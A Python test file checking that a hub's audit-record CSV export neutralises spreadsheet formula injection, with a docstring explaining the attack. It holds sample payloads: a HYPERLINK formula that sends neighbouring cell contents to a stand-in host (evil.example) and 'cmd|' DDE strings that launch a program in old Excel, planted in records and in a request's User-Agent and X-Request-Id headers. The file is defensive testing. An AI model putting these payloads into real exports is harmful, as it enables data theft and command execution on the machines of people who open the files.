"""Spreadsheet-safe CSV exports (hub/audit/search.py ``spreadsheet_safe``).

Attack: a caller puts a formula in something the hub records (its User-Agent, a path, an
``X-Request-Id``), waits for an auditor to export the access records and open the CSV in a
spreadsheet, and the formula runs there (``=HYPERLINK(...)`` exfiltrating the neighbouring
cells, ``=cmd|...`` on old Excel). Defence, as OWASP recommends: every cell beginning with ``=``,
``+``, ``-``, ``@``, tab or carriage return gets a leading ``'``, and every text cell is quoted.
"""

from __future__ import annotations

import csv
import io
from typing import Any, Iterator

import httpx
import pytest
from sqlalchemy import insert

from hub.access.accounts import add_account
from hub.audit.records import cli_record
from hub.audit.search import spreadsheet_safe
from hub.edge.app import create_app
from hub.store.tables import access_records
from tests.conftest import Hub
from tests.support import ThreadedServer, wait_until

PASSWORD = "correct horse battery"
STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


@pytest.fixture
def auditor(hub: Hub) -> Iterator[tuple[str, httpx.Client]]:
    add_account(hub.engine, "audrey", "Audrey", "auditor", PASSWORD, actor="test")
    with ThreadedServer(create_app(hub.settings)).start() as server:
        token = httpx.post(f"{server.url}/v1/auth/login", json={"username": "audrey", "password": PASSWORD}).json()["token"]
        with httpx.Client(base_url=server.url, headers={"Authorization": f"Bearer {token}"}, timeout=30) as c:
            yield server.url, c


def exported(c: httpx.Client, **filters: Any) -> list[dict[str, str]]:
    r = c.post("/v1/audit/records:export", json={"format": "csv", **filters})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(r.text)))


def test_formulas_in_recorded_fields_export_as_text(auditor: tuple[str, httpx.Client], hub: Hub) -> None:
    base, c = auditor
    with hub.engine.begin() as conn:  # each field an auditor exports, starting with each dangerous character
        conn.execute(insert(access_records), [
            {**cli_record("x", "r", "s"), "caller_request_id": f"rec-{i}", "partner_code": f"{ch}partner",
             "route": f"{ch}route", "outcome": f"{ch}1+1", "summary": f"{ch}cmd|' /C calc'!A0", "user_agent": FORMULA,
             "account": f"{ch}SUM(A1:A9)"}
            for i, ch in enumerate(STARTS)])
    # And from outside, as an attacker would: the User-Agent and X-Request-Id of a real request.
    httpx.get(f"{base}/nowhere", headers={"User-Agent": FORMULA, "X-Request-Id": "@SUM(1+1)*cmd|' /C calc'!A0"})
    wait_until(lambda: any(r["caller_request_id"].startswith("'@") for r in exported(c)), 10, what="the attacker's record")
    rows = exported(c)
    assert rows, "something was exported"
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(STARTS), f"{column} = {cell!r} would run as a formula"
    mine = {r["caller_request_id"]: r for r in rows}
    for i, ch in enumerate(STARTS):
        row = mine[f"rec-{i}"]
        assert (row["partner_code"], row["route"], row["outcome"]) == (f"'{ch}partner", f"'{ch}route", f"'{ch}1+1")
        assert row["user_agent"] == "'" + FORMULA and row["account"] == f"'{ch}SUM(A1:A9)"
    attacker = next(r for r in rows if r["path"] == "/nowhere")
    assert attacker["user_agent"] == "'" + FORMULA and attacker["caller_request_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert next(r for r in rows if r["path"] == "/nowhere")["status"] == "404", "numbers stay numbers"
    raw = c.post("/v1/audit/records:export", json={"format": "csv"}).text
    assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}"' in raw, "the neutralised cell is quoted too"
    # JSON Lines is data, not a spreadsheet: values as stored.
    lines = c.post("/v1/audit/records:export", json={"format": "jsonl"}).text
    assert FORMULA.replace('"', '\\"') in lines


def test_only_leading_formula_characters_are_neutralised() -> None:
    assert spreadsheet_safe("motcua") == "motcua" and spreadsheet_safe("a=b") == "a=b"
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(None) is None
    for ch in STARTS:
        assert spreadsheet_safe(f"{ch}x") == f"'{ch}x"
